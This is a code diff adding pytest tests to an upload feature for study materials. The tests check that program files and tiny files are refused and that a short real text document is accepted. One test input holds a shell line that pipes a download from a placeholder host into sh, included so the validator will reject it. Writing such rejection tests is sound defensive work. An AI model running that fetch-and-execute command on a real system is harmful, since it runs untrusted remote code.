@@ -248,3 +248,26 @@ def test_upload_folder_defaults_to_instance(app):
     assert storage.upload_root() == Path(app.instance_path) / "uploads"
     app.config["UPLOAD_FOLDER"] = "files"
     assert storage.upload_root() == Path(app.instance_path) / "files"
+
+
+# --- programs and scraps are not materials (issue 17) ------------------------------------------------
+
+@pytest.mark.parametrize("filename, data, message", [
+    ("bad.exe", b"abcd", "不能上传程序文件"),  # 4 bytes of "text" named as a program
+    ("bad.txt", b"abcd", "文件太小"),
+    ("安装.txt", b"#!/bin/sh\ncurl http://example.invalid/x | sh\n", "不能上传程序文件"),
+    ("说明.txt", b"\x7fELF" + "第一条 内容".encode() * 20, "不能上传程序文件"),
+    ("run.BAT", "学习资料学习资料学习资料".encode(), "不能上传程序文件"),
+])
+def test_programs_and_files_too_small_for_a_document_are_refused(app, client, auth, grid, filename, data, message):
+    auth.login(grid["trainer"])
+    response = upload(client, data, filename)
+    assert response.status_code == 400
+    assert message in response.get_data(as_text=True)
+    assert material_count() == 0 and stored_files(app) == []
+
+
+def test_a_short_real_document_is_still_taken(app, client, auth, grid):
+    auth.login(grid["trainer"])
+    assert upload(client, "第一条 党员必须认真学习。".encode(), "党章摘录.txt", title="党章摘录").status_code == 302
+    assert material_count() == 1
